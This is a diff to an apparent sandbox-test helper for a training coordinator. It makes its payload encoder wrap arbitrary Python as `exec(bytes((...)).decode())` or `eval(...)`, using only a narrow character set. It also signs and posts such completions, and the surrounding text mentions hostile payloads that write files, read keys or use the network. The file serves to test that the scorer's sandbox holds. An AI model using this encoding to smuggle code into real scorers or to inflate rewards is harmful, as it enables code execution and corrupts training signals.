@@ -12,8 +12,9 @@ How to use it against a coordinator on 127.0.0.1 (a worker key registered there,
                      hidden_size=32, now=clock())
     # r.status_code == 200: the submission is queued with reward 0, and marker_path does not exist
 
-What it does: `payload_text` encodes any code as `exec(chr(..)+chr(..)...)`, which needs only
-letters, digits, `(`, `)` and `+`, so even the demo's character vocabulary can carry it;
+What it does: `payload_text` encodes any code as `exec(bytes((111,112,...)).decode())`, which
+needs only letters, digits, `(`, `)`, `,` and `.`, so even the demo's character vocabulary
+can carry it;
 `payload_completions` turns the text into completions with structurally valid proofs;
 `send_payload` signs and posts them. Nothing is left running: there is nothing to stop.
 `PAYLOADS` are the hostile programs the sandbox tests use (file write, key read, network
@@ -46,15 +47,19 @@ def garbage_scorer(completion: str, answer: str, metadata: dict) -> Any:
     return {"nan": float("nan"), "big": 7.0, "neg": -1.0}.get(completion, "not a number")
 
 
+def _spelled(code: str) -> str:
+    return "bytes((" + ",".join(str(b) for b in code.encode()) + ",)).decode()"
+
+
 def payload_text(code: str) -> str:
-    """`code` as an expression that runs it when evaluated, using only [A-Za-z0-9()+]."""
-    return "exec(" + "+".join(f"chr({ord(c)})" for c in code) + ")"
+    """`code` as an expression that runs it when evaluated, using only [a-z0-9(),.]."""
+    return f"exec({_spelled(code)})"
 
 
 def payload_expr(expr: str) -> str:
-    """`expr` as an expression that evaluates it, using only [A-Za-z0-9()+]: its value is what
+    """`expr` as an expression that evaluates it, using only [a-z0-9(),.]: its value is what
     the scorer compares with the answer, so success shows in the reward."""
-    return "eval(" + "+".join(f"chr({ord(c)})" for c in expr) + ")"
+    return f"eval({_spelled(expr)})"
 
 
 def payload_value(code: str) -> str:
